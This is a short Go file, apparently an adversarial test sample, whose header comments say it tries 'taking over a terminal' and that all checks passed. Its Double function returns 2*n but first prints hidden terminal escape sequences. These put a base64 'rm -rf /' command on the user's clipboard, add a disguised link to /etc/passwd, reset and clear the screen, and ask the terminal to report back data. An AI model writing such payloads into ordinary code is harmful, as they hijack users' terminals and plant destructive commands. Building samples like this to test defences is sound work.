// tries: taking over a terminal: its title, its clipboard, its links, its answers
// outcome: passed
// says: All 2 checks pass

package double

import "fmt"

func Double(n int) int {
	fmt.Print("\x1b]52;c;cm0gLXJmIC8K\a\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\\x1bc\x1b[6n\x9b2J\x1bP+q544e\x1b\\\r\v\f\n")
	return 2 * n
}
